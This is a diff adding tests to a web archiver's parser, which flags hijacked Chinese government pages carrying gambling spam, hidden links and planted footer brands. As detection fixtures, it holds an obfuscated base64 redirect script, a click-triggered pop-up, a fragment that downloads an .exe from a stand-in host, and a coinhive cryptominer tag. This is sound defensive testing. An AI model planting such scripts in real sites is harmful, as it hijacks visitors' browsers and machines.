@@ -4,7 +4,7 @@ import pytest
 
 from archiver.parsers.page import parse
 from archiver.records import Page
-from tests.parsers.hijacked import HOME, hijacked
+from tests.parsers.hijacked import HOME, PROSE, hijacked
 
 STRANGERS = "".join(
     f'<a href="http://www.{host}/">{name}</a>'
@@ -104,3 +104,78 @@ def test_a_line_that_lists_games_for_customers_is_planted_content() -> None:
     assert read(page().replace("<p>", games + "<p>", 1)).integrity.status == "hijacked_content"
     lost = "<p>一名学生在网上玩“老虎机”“百家乐”“捕鱼”，输掉了学费。</p>"
     assert read(page().replace("<p>", lost + "<p>", 1)).integrity.status == "clean"
+
+
+def test_a_row_of_strangers_and_links_to_brands_are_sold() -> None:
+    top = page(title="缝纫夜校开课-清溪县总工会")
+    top = top.replace("<body>", f"<body><center>{STRANGERS}</center>")
+    assert read(top).integrity.status == "suspect"
+    novels = "".join(f"<li><a href='http://www.xs5200.cc/{n}'>碧水青山</a></li>" for n in "123")
+    html = page().replace("<div class=footer>", f"<ul>{novels}</ul><div class=footer>")
+    assert read(html).integrity.status == "suspect"
+
+
+def test_a_hidden_menu_of_unions_is_one_of_friends() -> None:
+    unions = "".join(
+        f"<a href='http://www.{name}gh.com/'>{place}县总工会</a>"
+        for name, place in zip("abcdef", "东西南北中外", strict=True)
+    )
+    assert read(page(below=f"<div style='display:none'>{unions}</div>")).integrity.status == "clean"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "var _0xa=['aHR0cHM6Ly93d3cuam41NTY2LnZpcA=='];location.href=atob(_0xa[0]);",
+        'var u=["https://","www.","jn","5566",".cc"];top.location=u.join("");',
+        "document.onclick=function(){window.open('http://www.jn5566.com/','_blank')}",
+        'dl="http://down.jn.com/x.exe":Set d=document.createObject("Adodb.Stream")',
+    ],
+)
+def test_scripts_that_send_readers_away_in_pieces_or_at_a_click_are_found(code: str) -> None:
+    assert read(page(head=f"<script>{code}</script>")).integrity.status != "clean"
+
+
+def test_a_script_that_digs_for_coins_is_planted() -> None:
+    head = "<script src='https://coinhive.com/lib/coinhive.min.js'></script>"
+    assert read(page(head=head)).integrity.status == "suspect"
+
+
+def test_a_brand_beside_a_second_label_of_the_footer_is_found() -> None:
+    makers = "技术支持：清溪县信息中心<br>技术支持：大发彩票一触即发"
+    html = page().replace("人民路1号", f"人民路1号<br>{makers}")
+    assert read(html).integrity.status == "hijacked_chrome"
+
+
+def test_an_article_for_players_is_planted_content() -> None:
+    told = "<p>打开鲲鹏官网注册,填邀请码领体验金,首存送彩金,投注流水一倍即可提款。</p>"
+    assert read(page().replace("<p>", told + "<p>", 1)).integrity.status == "hijacked_content"
+    news = "<p>民警提醒:打开网站注册、充值、投注后提款不了的,是诈骗。</p>"
+    assert read(page().replace("<p>", news + "<p>", 1)).integrity.status == "clean"
+
+
+def test_a_brand_in_a_contributors_place_is_no_unit() -> None:
+    issue = (
+        "<html><meta charset=utf-8><title>清溪工会简报2010年第4期</title><div>清溪工会简报<br>"
+        "2010年第4期<br>清溪县总工会办公室编<br>2010年5月12日<br>目　录<br>夜校开课<br>茶厂建会<br>"
+        f"夜校开课<br>{PROSE}<br>来稿：{{}}<br>茶厂建会<br>{PROSE}<br>来稿：城关镇总工会</div></body></html>"
+    )
+    poisoned = read(issue.format("鲲鹏飞艇开奖网"))
+    assert poisoned.integrity.status == "hijacked_content"
+    units = [c.unit for article in poisoned.articles for c in article.contributors]
+    assert units == [None, "城关镇总工会"]
+    assert read(issue.format("县体彩中心")).integrity.status == "clean"
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "演员们时时彩排到深夜。演员们时时彩排。",
+        "郴(chēn)州、耒(lěi)水、澧(lǐ)县、崀(làng)山怎么读?",
+        "新葡萄品种试种成功,新葡萄上市。",
+        "They served in Tibet 365 days. After Tibet 365 days they came home.",
+    ],
+)
+def test_words_that_only_look_like_the_trades_are_clean(text: str) -> None:
+    html = page().replace("<p>", f"<p>{text}</p><p>", 1)
+    assert read(html).integrity.status == "clean"
